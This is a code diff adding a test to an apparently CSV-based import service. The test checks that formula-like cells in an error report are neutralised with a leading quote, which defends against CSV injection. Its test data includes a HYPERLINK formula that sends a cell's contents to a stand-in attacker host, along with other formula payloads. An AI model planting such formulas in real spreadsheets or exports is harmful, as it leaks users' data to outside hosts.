@@ -227,6 +227,30 @@ def test_an_import_writes_the_valid_rows_and_reports_exactly_the_bad_ones(harnes
     assert (total, pages) == (3, 3)
 
 
+def test_a_formula_in_a_bad_row_is_written_to_the_report_as_text(harness):
+    """CSV injection (OWASP): the report echoes the supplier's cells, and a spreadsheet runs a cell
+    that starts with = + - @, tab or carriage return. Each such cell gets a single quote before it
+    and every cell is quoted, so the spreadsheet shows text."""
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
+    created = harness.upload([row(sku=f) for f in formulas])
+    harness.imports().process(harness.message(created["importId"]), lambda: 300.0)
+    key = harness.record(created["importId"])["reportKey"]
+    raw = harness.stack.client("s3").get_object(Bucket=harness.bucket, Key=key)["Body"].read().decode()
+
+    rows = list(csv.reader(io.StringIO(raw)))
+    assert [r[1] for r in rows[1:]] == ["'" + f for f in formulas]  # each shown as the text it is
+    assert raw.splitlines()[0] == '"row","sku","field","reason"'
+    assert all(line.startswith('"') for line in raw.splitlines())  # every cell quoted
+    # Cells the import strips (a SKU) never start with tab or CR, but a report cell might.
+    assert [imports.spreadsheet_safe(c) for c in ("\t=1", "\r=1", "SKU-1", "'=1")] == [
+        "'\t=1",
+        "'\r=1",
+        "SKU-1",
+        "'=1",
+    ]
+    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw and '"=HYPERLINK' not in raw
+
+
 def test_a_redelivered_message_creates_no_duplicate_and_counts_stay_right(harness, monkeypatch):
     monkeypatch.setattr(imports, "CHUNK_ROWS", 3)
     created = harness.upload(_mixed_rows())
